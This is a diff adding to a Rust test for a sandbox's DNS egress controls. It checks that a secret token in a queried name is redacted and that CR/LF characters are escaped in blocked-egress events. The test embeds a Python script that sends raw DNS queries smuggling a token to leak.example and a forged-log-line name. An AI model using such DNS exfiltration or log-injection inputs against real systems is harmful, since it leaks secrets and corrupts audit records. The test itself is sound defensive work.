@@ -191,6 +191,45 @@ async fn resolver_answers_only_allowlisted_names_and_reports_the_rest() {
     .await
     .expect("an egress_blocked event for evil.example");
     assert_eq!(blocked, (id, "dns".to_owned()));
+
+    // Names are the sandbox's choice: a token in a name never reaches an event, and control
+    // characters (forged log lines, terminal escapes) arrive escaped.
+    let raw_queries = r#"python3 - <<'PY'
+import socket, struct
+ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
+def ask(labels):
+    packet = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
+    for label in labels:
+        packet += bytes([len(label)]) + label
+    packet += b'\x00' + struct.pack('>HH', 1, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+    s.sendto(packet, (ns, 53)); print(s.recv(512)[3] & 15)
+ask([b'osb_sealed_0123456789abcdef0123456789abcdef', b'leak', b'example'])
+ask([b'evil\r\nforged', b'example'])
+PY"#;
+    let out = worker.sh(id, raw_queries).await;
+    assert_eq!(out.stdout.trim(), "3\n3", "both answered NXDOMAIN: {out:?}");
+    let hosts = tokio::time::timeout(Duration::from_secs(10), async {
+        let mut hosts = Vec::new();
+        while hosts.len() < 2 {
+            let event = events.recv().await.expect("event stream");
+            if let SandboxEventKind::EgressBlocked { host, .. } = &event.kind {
+                if host.contains("leak.example") || host.contains("forged") {
+                    hosts.push(host.clone());
+                }
+            }
+        }
+        hosts
+    })
+    .await
+    .expect("egress_blocked events for both raw names");
+    assert_eq!(
+        hosts,
+        vec![
+            "[sealed].leak.example".to_owned(),
+            "evil\\x0d\\x0aforged.example".to_owned()
+        ]
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
